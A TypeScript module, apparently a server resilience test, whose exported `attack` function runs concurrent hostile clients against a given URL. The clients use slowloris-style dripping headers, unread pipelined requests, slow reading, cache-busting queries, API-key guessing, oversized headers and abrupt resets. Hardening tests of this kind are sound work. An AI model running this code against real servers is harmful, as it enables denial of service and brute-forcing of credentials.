/**
 * Clients that mean harm, each until it is interrupted.
 */
import { Effect } from "effect"
import { connect, type Socket } from "node:net"

/** One connection after the other; `use` is told of each when it is open. */
const connecting = (url: string, use: (socket: Socket) => void) =>
  Effect.forever(
    Effect.callback<void>((resume) => {
      const { hostname, port } = new URL(url)
      const socket = connect(Number(port), hostname)
      socket.on("error", () => {})
      socket.on("connect", () => use(socket))
      socket.on("close", () => resume(Effect.sleep("20 millis")))
      return Effect.sync(() => socket.destroy())
    })
  )

/** Sends a chunk again and again until the connection is closed. */
const drip = (socket: Socket, millis: number, chunk: string) => {
  const timer = setInterval(() => socket.write(chunk), millis)
  socket.on("close", () => clearInterval(timer))
}

/** All of them at once. */
export const attack = (url: string, token: string) => {
  const head = (path: string, key = token) => `GET ${path} HTTP/1.1\r\nhost: a\r\nx-api-key: ${key}\r\n`
  let asked = 0
  const kinds: ReadonlyArray<readonly [connections: number, client: Effect.Effect<never>]> = [
    // Ask ahead, and read nothing.
    [20, connecting(url, (socket) => void socket.pause().write(`${head("/docs")}\r\n`.repeat(700)))],
    // Never end a request.
    [
      50,
      connecting(url, (socket) => {
        socket.resume().write(head("/api/sessions"))
        drip(socket, 500, "x-slow: 1\r\n")
      })
    ],
    // Read a whole list a little at a time.
    [
      6,
      connecting(url, (socket) => {
        socket.write(`${head("/v1/sessions")}\r\n`)
        socket.on("data", () => {
          socket.pause()
          setTimeout(() => socket.resume(), 500)
        })
      })
    ],
    // Ask for what is in no cache.
    [
      4,
      connecting(url, (socket) => {
        const ask = () => socket.write(`${head(`/api/sessions?x=${asked++}${"q".repeat(asked % 1500)}`)}\r\n`)
        // An answer more or less does not matter.
        socket.on("data", ask)
        ask()
      })
    ],
    // Guess tokens.
    [4, connecting(url, (socket) => void socket.resume().write(`${head("/api/sessions", `guess-${asked++}`)}\r\n`))],
    // Send too much.
    [
      4,
      connecting(
        url,
        (socket) => void socket.resume().write(`${head("/api/sessions")}x-large: ${"x".repeat(40_000)}\r\n\r\n`)
      )
    ],
    // Leave as soon as a whole list begins.
    [
      4,
      connecting(url, (socket) => {
        socket.write(`${head("/v1/sessions.csv")}\r\n`)
        socket.once("data", () => socket.resetAndDestroy())
      })
    ]
  ]
  return Effect.forEach(
    kinds.flatMap(([connections, client]) => Array.from({ length: connections }, () => client)),
    (client) => client,
    { concurrency: "unbounded", discard: true }
  )
}
